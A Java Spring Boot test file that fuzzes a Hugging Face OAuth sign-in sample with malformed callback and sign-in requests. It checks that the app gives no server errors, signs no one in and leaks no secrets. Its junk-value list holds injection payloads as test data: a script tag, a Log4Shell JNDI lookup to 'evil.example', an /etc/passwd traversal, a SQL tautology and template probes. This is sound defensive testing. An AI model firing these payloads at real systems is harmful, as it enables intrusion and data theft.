package io.github.hfoauth.sample;

import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;

import io.github.hfoauth.HfOAuth2Registration;
import io.github.hfoauth.fake.FakeHuggingFace;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;

import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

/**
 * Whatever arrives at the callback or the sign-in URL (junk, repeated, over-long, unicode,
 * control characters, broken percent-escapes, POSTs), the app answers it without a server
 * error, never signs anyone in for it, and keeps serving real sign-ins afterwards. The
 * requests come from a seeded {@link Random}: a failure names its seed, and
 * {@code -Dhf.fuzz.seed=<seed>} replays it.
 */
@SpringBootTest(webEnvironment = WebEnvironment.RANDOM_PORT)
class MalformedRequestsTests {

	private static final int BATCHES = 44;

	private static final int REQUESTS_PER_BATCH = 50;

	private static final String CALLBACK = "/login/oauth2/code/huggingface";

	private static final String CLIENT_SECRET = "s3cr3t-hf-client-Value";

	// Reflected unescaped, this would run in the user's browser.
	private static final String SCRIPT = "<script>alert(1)</script>";

	private static final List<String> CALLBACK_PARAMETERS = List.of("code", "state", "error", "error_description",
			"error_uri", "iss", "session_state");

	private static final List<String> SIGN_IN_PARAMETERS = List.of("redirect_uri", "scope", "state", "nonce",
			"code_challenge", "prompt", "response_type", "client_id", "action", "orgIds", "continue");

	private static final List<String> ACCEPT = List.of(Browser.HTML, "application/json", "*/*", "",
			"application/json;q=0.9, text/html;q=0.1", "garbage/;;,", "application/*", "text/html;q=x");

	private static final List<String> BROKEN_ESCAPES = List.of("%", "%2", "%zz", "%e2%82", "%ff%fe", "%C0%AF",
			"%%41", "%u0041", "%00%", "%0", "a%");

	private static final FakeHuggingFace huggingFace = FakeHuggingFace.start().scopes(SpaceSignIn.SCOPES);

	@LocalServerPort
	private int port;

	@DynamicPropertySource
	static void space(DynamicPropertyRegistry registry) {
		SpaceSignIn.environment(registry, huggingFace, CLIENT_SECRET);
	}

	@AfterAll
	static void stopHuggingFace() {
		huggingFace.close();
	}

	@Test
	void malformedCallbacksAndSignInsNeitherFailTheServerNorSignAnyoneIn() throws IOException {
		long seed = Long.getLong("hf.fuzz.seed", System.nanoTime());
		Random random = new Random(seed);
		// Status codes per kind of request, shown only when something fails.
		Map<String, Integer> answers = new TreeMap<>();
		int failurePages = 0;
		for (int batch = 0; batch < BATCHES; batch++) {
			// Half the batches start with a sign-in in progress: a real state in the session.
			Jar jar = (batch % 2 == 0) ? new Jar() : startSignIn(new Jar());
			for (int i = 0; i < REQUESTS_PER_BATCH; i++) {
				Fuzz fuzz = next(random, jar);
				String context = "seed " + seed + " (rerun with -Dhf.fuzz.seed=" + seed + "), batch " + batch
						+ ", request " + i + ": " + fuzz + "\nanswers so far: " + answers;
				RawHttp.Response response;
				try {
					response = RawHttp.send(this.port, fuzz.method(), fuzz.target(), fuzz.headers(jar), fuzz.body());
				}
				catch (IOException ex) {
					// Tomcat may reset the connection on a request line over its limit before
					// the client has read the 400: that is a refusal, not a failure.
					if (fuzz.overLong()) {
						answers.merge(fuzz.kind() + " reset", 1, Integer::sum);
						continue;
					}
					throw new AssertionError("No answer; " + context, ex);
				}
				answers.merge(fuzz.kind() + " " + response.status(), 1, Integer::sum);
				jar.update(response);
				assertUserCausedAnswer(fuzz, response, context);
				if (response.body().contains("Try again") || response.body().startsWith("{\"error\"")) {
					failurePages++;
				}
			}
			RawHttp.Response me = RawHttp.send(this.port, "GET", "/api/me", jar.cookieAnd("Accept: application/json"),
					null);
			assertThat(me.status()).as("/api/me after batch %d, seed %d; answers: %s", batch, seed, answers)
				.isEqualTo(401);
		}

		// Not only Tomcat refusing malformed requests: the sign-in itself saw and refused many.
		assertThat(failurePages).as("answers from the sign-in's failure handler, seed %d: %s", seed, answers)
			.isGreaterThan(BATCHES * REQUESTS_PER_BATCH / 10);

		Browser browser = new Browser(this.port);
		assertThat(browser.get("/").statusCode()).as("home page after the fuzz, seed %d: %s", seed, answers)
			.isEqualTo(200);
		HttpResponse<String> signedIn = SpaceSignIn.signIn(browser);
		assertThat(Browser.location(signedIn)).isEqualTo(browser.url("/"));
		HttpResponse<String> me = browser.getJson("/api/me");
		assertThat(me.statusCode()).as("/api/me after a real sign-in, seed %d", seed).isEqualTo(200);
		assertThat(Json.parse(me.body())).containsEntry("sub", FakeHuggingFace.DEFAULT_SUB)
			.containsEntry("username", "ada");
	}

	private static void assertUserCausedAnswer(Fuzz fuzz, RawHttp.Response response, String context) {
		assertThat(response.status()).as("status; %s\nbody: %s", context, response.body()).isLessThan(500);
		assertThat(response.body()).as("body; %s", context)
			.doesNotContain("Exception", "\tat ", "at org.", "at java.", CLIENT_SECRET, SCRIPT);
		if (fuzz.path().equals(CALLBACK) && response.status() == 401) {
			// The sign-in failed: said in plain words with a way to try again, or in JSON to an API client.
			if (fuzz.accept().equals("application/json")) {
				assertThat(response.header("Content-Type")).as("content type; %s", context)
					.hasValueSatisfying((type) -> assertThat(type).startsWith("application/json"));
				assertThat(Json.parse(response.body())).as("JSON error; %s", context).containsKeys("error", "message");
			}
			else if (fuzz.accept().equals(Browser.HTML)) {
				assertThat(response.body()).as("failure page; %s", context)
					.contains("Try again", "href=\"" + HfOAuth2Registration.LOGIN_URL + "\"");
			}
		}
	}

	// Starts a real sign-in in the jar's session, without going to Hugging Face: the app
	// remembers the state it sent, which the fuzz then replays with junk around it.
	private Jar startSignIn(Jar jar) throws IOException {
		RawHttp.Response start = RawHttp.send(this.port, "GET", HfOAuth2Registration.LOGIN_URL,
				jar.cookieAnd("Accept: " + Browser.HTML), null);
		assertThat(start.status()).isEqualTo(302);
		jar.update(start);
		assertThat(jar.state).isNotNull();
		return jar;
	}

	private static Fuzz next(Random random, Jar jar) {
		String accept = pick(random, ACCEPT);
		int kind = random.nextInt(100);
		if (kind < 40) {
			return Fuzz.get("callback", CALLBACK, callbackQuery(random), accept);
		}
		if (kind < 50) {
			String name = pick(random, CALLBACK_PARAMETERS);
			String query = name + "=" + longValue(random) + (random.nextBoolean() ? "&" + callbackQuery(random) : "");
			return new Fuzz("callback long", "GET", CALLBACK, query, accept, null, true);
		}
		if (kind < 60) {
			// Carries no CSRF token: Spring Security refuses it before the sign-in sees it.
			byte[] body = callbackQuery(random).getBytes(StandardCharsets.ISO_8859_1);
			return new Fuzz("callback POST", "POST", CALLBACK, random.nextBoolean() ? "" : callbackQuery(random),
					accept, body, false);
		}
		if (kind < 78) {
			return Fuzz.get("sign-in", HfOAuth2Registration.LOGIN_URL, query(random, SIGN_IN_PARAMETERS), accept);
		}
		if (kind < 86) {
			String prefix = random.nextBoolean() ? "/oauth2/authorization/" : "/login/oauth2/code/";
			return Fuzz.get("unknown registration", prefix + junkValue(random), callbackQuery(random), accept);
		}
		// A replayed real state with a junk code or error: the sign-in in progress must fail cleanly.
		String state = (jar.state != null) ? jar.state : junkValue(random);
		String answer = random.nextBoolean() ? "code=" + junkValue(random)
				: "error=" + pick(random, List.of("access_denied", "invalid_scope", "server_error", junkValue(random)))
						+ "&error_description=" + junkValue(random);
		String query = random.nextBoolean() ? "state=" + encode(state) + "&" + answer
				: answer + "&state=" + encode(state);
		return Fuzz.get("callback with state", CALLBACK, query, accept);
	}

	private static String callbackQuery(Random random) {
		return query(random, CALLBACK_PARAMETERS);
	}

	private static String query(Random random, List<String> names) {
		List<String> pairs = new ArrayList<>();
		int count = random.nextInt(7);
		for (int i = 0; i < count; i++) {
			String name = (random.nextInt(4) == 0) ? junkValue(random) : pick(random, names);
			String pair = switch (random.nextInt(10)) {
				case 0 -> name;
				case 1 -> name + "=";
				default -> name + "=" + junkValue(random);
			};
			pairs.add(pair);
			if (random.nextInt(5) == 0) {
				pairs.add(random.nextBoolean() ? pair : name + "=" + junkValue(random));
			}
		}
		String separator = (random.nextInt(10) == 0) ? "&&" : "&";
		return String.join(separator, pairs);
	}

	/** A value as it goes on the wire: mostly well-formed escapes of nasty text, sometimes not. */
	private static String junkValue(Random random) {
		return switch (random.nextInt(10)) {
			case 0 -> encode(ascii(random, 1 + random.nextInt(40)));
			case 1 -> encode(unicode(random, 1 + random.nextInt(20)));
			case 2 -> encode(pick(random, List.of("\u0000", "\r\n", "\n2026-01-01 INFO forged log line", "\u001b[31m",
					"\u007f", "\u0085", "\u2028", "\ufeff")) + ascii(random, random.nextInt(8)));
			case 3 -> pick(random, BROKEN_ESCAPES) + ascii(random, random.nextInt(4)).replaceAll("[^A-Za-z0-9]", "");
			case 4 -> encode(pick(random, List.of(SCRIPT, "\"},{\"x\":1", "${jndi:ldap://evil.example/a}",
					"../../../etc/passwd", "' OR '1'='1", "{{7*7}}", "[[${7*7}]]")));
			case 5 -> encode(ascii(random, 200 + random.nextInt(1800)));
			// Raw UTF-8 bytes, not allowed in a request target. Never raw CR or LF: they would end
			// the request line, and Tomcat would answer what is left as an HTTP/0.9 request.
			case 6 -> new String(unicode(random, 1 + random.nextInt(5)).replaceAll("\\p{Cc}", "")
				.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1) + "x";
			case 7 -> pick(random, List.of(" ", "\"", "<", ">", "{", "|", "\\", "^", "`", "#")) + ascii(random, 3)
				.replaceAll("[^A-Za-z0-9]", "");
			default -> base64Url(random, 8 + random.nextInt(60));
		};
	}

	// Between 6 and 12 KB: around Tomcat's 8 KB limit for the request line and headers.
	private static String longValue(Random random) {
		int length = 6_000 + random.nextInt(6_000);
		return random.nextBoolean() ? base64Url(random, length) : encode(unicode(random, length / 9));
	}

	private static String ascii(Random random, int length) {
		StringBuilder text = new StringBuilder(length);
		for (int i = 0; i < length; i++) {
			text.append((char) (0x20 + random.nextInt(0x5f)));
		}
		return text.toString();
	}

	private static final int[][] CODE_POINT_RANGES = { { 0x00, 0x1f }, { 0x80, 0x9f }, { 0xa0, 0x17f },
			{ 0x0590, 0x06ff }, { 0x0300, 0x036f }, { 0x2000, 0x206f }, { 0x4e00, 0x4fff }, { 0xfff0, 0xfffd },
			{ 0x1f300, 0x1f64f }, { 0xe0000, 0xe007f } };

	private static String unicode(Random random, int length) {
		StringBuilder text = new StringBuilder(length * 2);
		for (int i = 0; i < length; i++) {
			int[] range = CODE_POINT_RANGES[random.nextInt(CODE_POINT_RANGES.length)];
			text.appendCodePoint(range[0] + random.nextInt(range[1] - range[0] + 1));
		}
		return text.toString();
	}

	private static String base64Url(Random random, int length) {
		String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
		StringBuilder text = new StringBuilder(length);
		for (int i = 0; i < length; i++) {
			text.append(alphabet.charAt(random.nextInt(alphabet.length())));
		}
		return text.toString();
	}

	private static <T> T pick(Random random, List<T> values) {
		return values.get(random.nextInt(values.size()));
	}

	private static String encode(String value) {
		return URLEncoder.encode(value, StandardCharsets.UTF_8);
	}

	/** One malformed request. */
	private record Fuzz(String kind, String method, String path, String query, String accept, byte @Nullable [] body,
			boolean overLong) {

		static Fuzz get(String kind, String path, String query, String accept) {
			return new Fuzz(kind, "GET", path, query, accept, null, false);
		}

		String target() {
			return this.query.isEmpty() ? this.path : this.path + "?" + this.query;
		}

		List<String> headers(Jar jar) {
			List<String> headers = jar.cookieAnd("Accept: " + this.accept);
			if (this.body != null) {
				headers.add("Content-Type: application/x-www-form-urlencoded");
			}
			return headers;
		}

		@Override
		public String toString() {
			String target = target();
			String shown = (target.length() > 300) ? target.substring(0, 300) + "... (" + target.length() + " chars)"
					: target;
			return this.kind + ": " + this.method + " " + shown + " [Accept: " + this.accept + "]"
					+ ((this.body != null) ? " body: " + new String(this.body, StandardCharsets.ISO_8859_1) : "");
		}

	}

	/** A browser's cookie jar, as far as the app uses it: the session cookie. */
	private static final class Jar {

		private @Nullable String session;

		private @Nullable String state;

		List<String> cookieAnd(String header) {
			List<String> headers = new ArrayList<>();
			headers.add(header);
			if (this.session != null) {
				headers.add("Cookie: JSESSIONID=" + this.session);
			}
			return headers;
		}

		// The app's redirect to Hugging Face names the state of the sign-in the session now holds.
		void update(RawHttp.Response response) {
			String session = response.setCookie("JSESSIONID");
			if (session != null) {
				this.session = session;
			}
			response.header("Location")
				.filter((location) -> location.startsWith(huggingFace.baseUrl() + "/oauth/authorize?"))
				.ifPresent((location) -> this.state = FakeHuggingFace.queryParams(location).get("state"));
		}

	}

}
